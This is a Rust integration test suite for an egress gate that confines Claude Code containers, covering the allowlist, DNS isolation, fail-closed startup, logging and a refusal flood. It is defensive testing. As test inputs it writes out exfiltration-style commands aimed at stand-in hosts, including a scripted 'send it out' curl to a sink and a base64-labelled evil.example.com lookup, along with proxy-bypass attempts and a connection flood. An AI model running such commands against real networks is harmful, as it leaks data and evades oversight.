//! Every bottle behind its gate: what a bottle can and cannot reach, with
//! fixtures on a network the gate is attached to (named in
//! `egress.private`, `egress.builtin` off), and the fake or the real claude.

use std::collections::HashMap;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use bollard::Docker;
use bollard::query_parameters::{EventsOptions, InspectContainerOptions, ListContainersOptions};
use fixtures::report::frames;
use futures_util::StreamExt;
use serde_json::{Value, json};

use crate::support::{
    BASE_IMAGE, CLAUDE_CODE_IMAGE, FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE, Sandbox, Service, Session,
    TEST_LABEL, TestContainer, TestNetwork, engine_with, exec, fixture_json, is_podman, kill_9,
    leftovers, run_label, running_agent, value_of, with_real_claude,
};

/// "The internet" for one test: an allowed service and a sink that must
/// never hear from the bottle, on a network of their own.
struct Outside {
    // Fields drop in order: the containers must go before their network.
    services: Vec<TestContainer>,
    network: TestNetwork,
    allowed: String,
    sink: String,
    mock: Option<String>,
}

impl Outside {
    /// Labelled apart from the bottle's resources, so that what a bottle
    /// leaves behind can be told from the fixtures.
    async fn new(docker: &Docker, bottle_label: &str, mock_script: Option<&Value>) -> Self {
        let label = &format!("{bottle_label}-outside");
        let network = TestNetwork::create(docker, label).await;
        let (allowed_container, allowed) = Service::sink(&network, "allowed")
            .start(docker, label)
            .await;
        let (sink_container, sink) = Service::sink(&network, "sink").start(docker, label).await;
        let mut services = vec![allowed_container, sink_container];
        let mut mock = None;
        if let Some(script) = mock_script {
            let (mock_container, address) =
                Service::mock(&network, script).start(docker, label).await;
            services.push(mock_container);
            mock = Some(address);
        }
        Self {
            services,
            network,
            allowed,
            sink,
            mock,
        }
    }

    fn records(address: &str) -> Vec<Value> {
        fixture_json(address, 9999, "/_records")
    }
}

/// A sandbox whose bottle lists the fixtures, attached to their network.
fn sandbox(label: &str, outside: &Outside, image: &str, env: &Value) -> Sandbox {
    let manifest = json!({
        "bottles": { "dev": {
            "env": env,
            "egress": { "allowlist": ["allowed", "mock"], "private": ["allowed", "mock"], "builtin": false }
        } },
        "agents": { "a": { "bottle": "dev" } },
    });
    Sandbox::with_manifest(&manifest.to_string())
        .env("CLAUDE_BOTTLE_IMAGE", image)
        .env(
            "CLAUDE_BOTTLE_EXTRA_LABELS",
            &format!("{TEST_LABEL}={label}"),
        )
        .env("CLAUDE_BOTTLE_GATE_NETWORKS", &outside.network.name)
}

/// Starts a bottle of `outside` whose fake claude runs `script`, to its end.
fn run_script(label: &str, outside: &Outside, script: &str) -> crate::support::Output {
    let bottle = sandbox(
        label,
        outside,
        FAKE_CLAUDE_IMAGE,
        &json!({ "FAKE_CLAUDE_RUN": script }),
    );
    let out = bottle.run(&["start", "a", "--yes"]);
    assert_eq!(out.code, 0, "{out:?}");
    out
}

fn label(test: &str) -> String {
    run_label(&format!("egress-{test}"))
}

/// The address of the instance's container playing `role`: on its
/// internal network, else on any network it has; `None` for an agent
/// without a network (Podman).
pub(crate) async fn container_address(docker: &Docker, label: &str, role: &str) -> Option<String> {
    let found = bottle::backend::docker::list_containers(
        docker,
        ListContainersOptions {
            filters: Some(HashMap::from([(
                "label".to_owned(),
                vec![
                    format!("{TEST_LABEL}={label}"),
                    format!("io.claude-bottle.role={role}"),
                ],
            )])),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let id = found[0].id.clone().unwrap();
    let inspect = docker
        .inspect_container(&id, None::<InspectContainerOptions>)
        .await
        .unwrap();
    let network_mode = inspect
        .host_config
        .as_ref()
        .and_then(|h| h.network_mode.clone());
    let mut addresses: Vec<(String, String)> = inspect
        .network_settings
        .and_then(|n| n.networks)
        .unwrap_or_default()
        .into_iter()
        .filter_map(|(name, e)| Some((name, e.ip_address.filter(|a| !a.is_empty())?)))
        .collect();
    addresses.sort_by_key(|(name, _)| !name.ends_with("-internal"));
    let address = addresses.into_iter().next().map(|(_, address)| address);
    // No address is no network, never an address these tests missed.
    assert!(
        address.is_some() || network_mode.as_deref() == Some("none"),
        "the {role} has no address, yet the network mode {network_mode:?}"
    );
    address
}

/// A line of script that tries `url` directly (never through the gate)
/// and echoes `name=` curl's exit code; `unaddressed` when there is no
/// address to try.
pub(crate) fn direct_try(name: &str, url: Option<String>, max_time: u32) -> String {
    match url {
        Some(url) => {
            format!("curl -s --noproxy '*' --max-time {max_time} {url} >/dev/null; echo {name}=$?")
        }
        None => format!("echo {name}=unaddressed"),
    }
}

#[tokio::test]
async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
    let Some(docker) =
        engine_with("egress from a bottle", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
    else {
        return;
    };
    let label = label("inside");
    let outside = Outside::new(&docker, &label, None).await;
    // Another instance, running alongside: its agent and gate must be out
    // of reach too.
    let other_label = label.clone() + "-other";
    let other = sandbox(
        &other_label,
        &outside,
        FAKE_CLAUDE_IMAGE,
        &json!({ "FAKE_CLAUDE_READ_STDIN": "1" }),
    );
    let other_session = Session::spawn(&other, &["start", "a", "--yes"]);
    running_agent(&docker, &other_label, &other_session).await;
    let other_agent = container_address(&docker, &other_label, "agent").await;
    let other_gate = container_address(&docker, &other_label, "gate")
        .await
        .expect("the other gate has an address");

    let sink = &outside.sink;
    let script = format!(
        "echo allowed=$(curl -s http://allowed/through-the-gate); \
         echo refused=$(curl -s -w ' %{{http_code}}' http://sink/refused-path); \
         curl -s --noproxy '*' --max-time 3 http://{sink}/direct >/dev/null; echo direct=$?; \
         echo proxied-address=$(curl -s -w ' %{{http_code}}' http://{sink}/by-address); \
         timeout 5 getent hosts sink >/dev/null; echo dns=$?; \
         curl -s --noproxy '*' --max-time 3 http://{other_gate}:3128/healthz >/dev/null; echo other-gate=$?; \
         {}; \
         echo via-gate-to-other=$(curl -s -w ' %{{http_code}}' http://{other_gate}:3128/healthz)",
        direct_try(
            "other-agent",
            other_agent.map(|a| format!("http://{a}:80/")),
            3
        )
    );
    let out = run_script(&label, &outside, &script);
    let said = |key: &str| value_of(&out.stdout, key).to_owned();
    assert_eq!(said("allowed"), "sink", "the positive control");
    assert!(
        said("refused").contains("egress gate refused") && said("refused").ends_with("403"),
        "{}",
        said("refused")
    );
    assert_ne!(said("direct"), "0", "direct TCP to the sink worked");
    assert!(
        said("proxied-address").ends_with("403"),
        "{}",
        said("proxied-address")
    );
    assert_ne!(said("dns"), "0", "a name resolved inside the bottle");
    assert_ne!(
        said("other-gate"),
        "0",
        "another instance's gate was reachable"
    );
    assert_ne!(
        said("other-agent"),
        "0",
        "another instance's agent was reachable"
    );
    assert!(
        said("via-gate-to-other").ends_with("403"),
        "{}",
        said("via-gate-to-other")
    );

    assert!(
        Outside::records(&outside.sink).is_empty(),
        "the sink heard from the bottle"
    );
    let allowed = Outside::records(&outside.allowed);
    assert_eq!(allowed.len(), 1, "{allowed:?}");
    assert!(
        allowed[0]["first_bytes"]
            .as_str()
            .unwrap()
            .starts_with("GET /through-the-gate")
    );
    assert!(
        out.stderr.contains("egress: 1 allowed, 3 refused"),
        "{}",
        out.stderr
    );
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));

    assert_eq!(other_session.finish("").code, 0);
    assert_eq!(leftovers(&docker, &other_label).await, (vec![], vec![]));
}

/// `perl -e` that sends a DNS query for an A record of `$2` to `$1` and
/// prints `none` when nothing answers within 2 s, else the answer's rcode
/// and count. Perl is in every Debian image; bash's /dev/udp reads too
/// early.
const DNS_QUERY: &str = "perl -MIO::Socket::INET -e '($a, $n) = @ARGV; \
    $s = IO::Socket::INET->new(PeerAddr => $a, PeerPort => 53, Proto => q(udp)) or do { print qq(none\\n); exit }; \
    $s->send(pack(q(n6), 0x1234, 0x0100, 1, 0, 0, 0) . join(q(), map { chr(length) . $_ } split /[.]/, $n) . qq(\\0) . pack(q(nn), 1, 1)); \
    vec($v, fileno($s), 1) = 1; $r = q(); $s->recv($r, 512) if select($v, undef, undef, 2); \
    print $r eq q() ? qq(none\\n) : sprintf(qq(rcode=%d answers=%d\\n), ord(substr($r, 3, 1)) & 15, unpack(q(n), substr($r, 6, 2)))'";

#[tokio::test]
async fn no_dns_query_from_a_bottle_is_answered_from_outside_it() {
    let Some(docker) = engine_with("dns from a bottle", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
    else {
        return;
    };
    let label = label("dns");
    // `allowed` and `sink` are names on the network the gate joins: the
    // bottle's outside.
    let outside = Outside::new(&docker, &label, None).await;
    let script = format!(
        "gate=$(getent hosts gate | cut -d' ' -f1); echo gate=$gate; \
         for server in 127.0.0.11 $(awk '/^nameserver/ {{ print $2 }}' /etc/resolv.conf) $gate; do \
           for name in allowed sink; do echo \"dns $server $name $({DNS_QUERY} $server $name)\"; done; \
         done; \
         echo \"inside $({DNS_QUERY} 127.0.0.11 gate)\"; \
         echo ipv6=$(grep -vc ' lo$' /proc/net/if_inet6 2>/dev/null); \
         echo disable_ipv6=$(cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null || echo absent)"
    );
    let out = run_script(&label, &outside, &script);
    let said = |key: &str| value_of(&out.stdout, key).to_owned();
    // The gate is known without DNS.
    let gate = said("gate");
    assert!(gate.parse::<std::net::Ipv4Addr>().is_ok(), "{}", out.stdout);
    let answers: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("dns "))
        .collect();
    assert!(
        answers.len() >= 6,
        "127.0.0.11, resolv.conf and the gate: {answers:?}"
    );
    assert!(
        answers
            .iter()
            .any(|l| l.starts_with(&format!("dns {gate} ")))
    );
    for line in &answers {
        assert!(
            line.ends_with(" none") || line.contains(" answers=0"),
            "answered from outside the bottle: {line}"
        );
    }
    // The positive controls: the same query for the same name is answered
    // outside the bottle, on the network the gate joins...
    let (code, outside_answer) = exec(
        &docker,
        &outside.services[1].id,
        &[
            "sh",
            "-c",
            &format!(
                "{DNS_QUERY} $(awk '/^nameserver/ {{ print $2; exit }}' /etc/resolv.conf) allowed"
            ),
        ],
        &[],
    )
    .await;
    assert_eq!(code, 0, "{outside_answer}");
    assert!(
        outside_answer.trim_end().ends_with("rcode=0 answers=1"),
        "{outside_answer}"
    );
    // ...and, where the bottle has a network (not on Podman, where the
    // agent has none), inside it for a name of that network.
    if !is_podman(&docker).await {
        let inside = out
            .stdout
            .lines()
            .find(|l| l.starts_with("inside "))
            .unwrap();
        assert!(inside.ends_with("rcode=0 answers=1"), "{}", out.stdout);
    }
    // No IPv6 address but loopback's; where the setting exists, it is on.
    assert_eq!(said("ipv6"), "0", "{}", out.stdout);
    assert!(
        ["1", "absent"].contains(&said("disable_ipv6").as_str()),
        "{}",
        out.stdout
    );
    assert!(Outside::records(&outside.sink).is_empty());
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
}

#[tokio::test]
async fn real_claude_code_reaches_the_mock_through_the_gate_and_its_curl_is_refused() {
    let Some(docker) = with_real_claude("real claude behind the gate").await else {
        return;
    };
    let label = label("real");
    let script = json!([
        { "tool_use": { "name": "Bash", "input": { "command": "curl -s http://sink/exfiltrate-7c1", "description": "send it out" } } },
        { "text": "done" }
    ]);
    let outside = Outside::new(&docker, &label, Some(&script)).await;
    let env = json!({
        "ANTHROPIC_BASE_URL": "http://mock",
        "ANTHROPIC_API_KEY": "test-key-not-secret",
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
    });
    let bottle = sandbox(&label, &outside, CLAUDE_CODE_IMAGE, &env);
    let out = bottle.run(&["start", "a", "--yes", "--", "-p", "go"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout.trim(), "done");
    let requests: Vec<Value> = fixture_json(outside.mock.as_ref().unwrap(), 80, "/_requests");
    assert_eq!(requests.len(), 2, "{requests:#?}");
    let result = crate::support::tool_result(&requests[1]);
    assert!(
        result.to_string().contains("egress gate refused GET sink"),
        "the tool_result: {result:#}"
    );
    assert!(
        Outside::records(&outside.sink).is_empty(),
        "the sink heard from claude"
    );
    assert!(
        out.stderr.contains("egress: 2 allowed, 1 refused"),
        "{}",
        out.stderr
    );
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
}

#[tokio::test]
async fn a_gate_that_cannot_start_means_claude_never_runs_and_nothing_is_left() {
    let Some(docker) = engine_with("fail closed", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
    else {
        return;
    };
    let label = label("closed");
    let outside = Outside::new(&docker, &label, None).await;
    let since = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
        - 1;
    // An image that is no gate: it cannot run the gate's command.
    let bottle = sandbox(&label, &outside, FAKE_CLAUDE_IMAGE, &json!({}))
        .env("CLAUDE_BOTTLE_GATE_IMAGE", BASE_IMAGE);
    let out = bottle.run(&["start", "a", "--yes"]);
    assert_eq!(out.code, 125, "{out:?}");
    assert!(out.stderr.contains("error: the egress gate"), "{out:?}");
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
    let until = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 1;
    let mut events = docker.events(Some(EventsOptions {
        since: Some(since.to_string()),
        until: Some(until.to_string()),
        filters: Some(HashMap::from([
            ("type".to_owned(), vec!["container".to_owned()]),
            ("label".to_owned(), vec![format!("{TEST_LABEL}={label}")]),
        ])),
    }));
    let (mut created, mut execs) = (Vec::new(), Vec::new());
    while let Some(Ok(event)) = events.next().await {
        let action = event.action.unwrap_or_default();
        let attributes = event.actor.and_then(|a| a.attributes).unwrap_or_default();
        let role = attributes
            .get("io.claude-bottle.role")
            .cloned()
            .unwrap_or_default();
        if action == "create" {
            created.push(role);
        } else if let Some(command) = action.strip_prefix("exec_create: ") {
            execs.push(command.to_owned());
        }
    }
    assert!(
        created.contains(&"gate".to_owned()),
        "the gate was created: {created:?}"
    );
    // The agent's container may have started beside the gate, but claude
    // never ran in it.
    assert!(
        !execs.iter().any(|command| command.starts_with("claude")),
        "claude ran without a gate: {execs:?}"
    );
}

#[tokio::test]
async fn logs_shows_a_running_instances_decisions_and_kill_9_takes_the_gate_down() {
    let Some(docker) = engine_with("logs and kill -9", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
    else {
        return;
    };
    let label = label("logs");
    let outside = Outside::new(&docker, &label, None).await;
    let env = json!({
        "FAKE_CLAUDE_RUN": "curl -s http://allowed/ >/dev/null; curl -s http://c2VjcmV0.evil.example.com/ >/dev/null",
        "FAKE_CLAUDE_READ_STDIN": "1",
    });
    let bottle = sandbox(&label, &outside, FAKE_CLAUDE_IMAGE, &env);
    let session = Session::spawn(&bottle, &["start", "a", "--yes"]);
    running_agent(&docker, &label, &session).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    while frames(&session.stdout.lock().unwrap(), "ran").is_empty() {
        assert!(Instant::now() < deadline, "the requests never ran");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let instance = crate::support::wait_for_instance(&session).await;
    let logs = bottle.run(&["logs", &instance]);
    assert_eq!(logs.code, 0, "{logs:?}");
    let lines: Vec<Value> = logs
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert_eq!(
        (lines[0]["host"].as_str(), lines[0]["verdict"].as_str()),
        (Some("allowed"), Some("allow"))
    );
    assert_eq!(lines[1]["verdict"], "refuse");
    assert!(
        lines[1]["host"].as_str().unwrap().starts_with("com#"),
        "{}",
        lines[1]
    );
    assert!(!logs.stdout.contains("c2VjcmV0"));

    kill_9(session, &docker, &label, "the gate or the agent").await;
    assert_eq!(bottle.run(&["cleanup", "--yes"]).code, 0);
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
    assert_eq!(
        bottle.run(&["logs", &instance]).code,
        125,
        "no instance, no log"
    );
}

#[tokio::test]
async fn after_a_flood_of_refusals_the_counts_are_whole_and_logs_keeps_the_first_decision() {
    let Some(docker) = engine_with("refusal flood", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
    else {
        return;
    };
    let label = label("flood");
    let outside = Outside::new(&docker, &label, None).await;
    // One allowed request, then 100,000 refusals as fast as four clients
    // ask, each for a name of its own: more lines than the engine keeps,
    // and more names than the gate holds.
    let flood = concat!(
        r#"perl -MIO::Socket::INET -e 'my ($h, $p) = $ENV{HTTPS_PROXY} =~ m{//([^:/]+):(\d+)}; "#,
        r#"for my $w (0..3) { next if fork; for my $i (1..25000) { "#,
        r#"my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) or die "dial: $!"; "#,
        r#"print $s "CONNECT n$w-$i.flood.example.com:443 HTTP/1.1\r\n\r\n"; 1 while <$s>; close $s; "#,
        r#"} exit 0 } 1 while wait > 0'"#,
    );
    let env = json!({
        "FAKE_CLAUDE_RUN": format!("curl -s http://allowed/ >/dev/null; {flood}"),
        "FAKE_CLAUDE_READ_STDIN": "1",
    });
    let bottle = sandbox(&label, &outside, FAKE_CLAUDE_IMAGE, &env);
    let session = Session::spawn(&bottle, &["start", "a", "--yes"]);
    running_agent(&docker, &label, &session).await;
    let deadline = Instant::now() + Duration::from_secs(300);
    while frames(&session.stdout.lock().unwrap(), "ran").is_empty() {
        assert!(Instant::now() < deadline, "the flood never ended");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let instance = crate::support::wait_for_instance(&session).await;
    // Read until the copy has caught up with the gate.
    let mut lines: Vec<Value> = Vec::new();
    loop {
        let logs = bottle.run(&["logs", &instance]);
        assert_eq!(logs.code, 0, "{}", logs.stderr);
        let read: Vec<Value> = logs
            .stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        if read.len() == lines.len() {
            break;
        }
        lines = read;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    assert_eq!(
        (lines[0]["host"].as_str(), lines[0]["verdict"].as_str()),
        (Some("allowed"), Some("allow")),
        "the first decision is kept"
    );
    let out = session.finish("");
    let summary = out
        .stderr
        .lines()
        .find(|l| l.starts_with("egress: "))
        .unwrap_or_else(|| panic!("no summary: {}", out.stderr));
    assert!(
        summary.starts_with("egress: 1 allowed, 100000 refused"),
        "{summary}"
    );
    assert!(
        summary.contains("more refused names than shown"),
        "{summary}"
    );
    // Every decision is either a line of the log or counted as dropped.
    let written = lines.iter().filter(|l| l["verdict"].is_string()).count();
    let dropped: usize = summary
        .split("; ")
        .find_map(|part| {
            part.strip_suffix(" log lines dropped while the log lagged (the counts are whole)")
        })
        .map_or(0, |n| n.parse().unwrap());
    assert_eq!(written + dropped, 100_001, "{summary}");
}
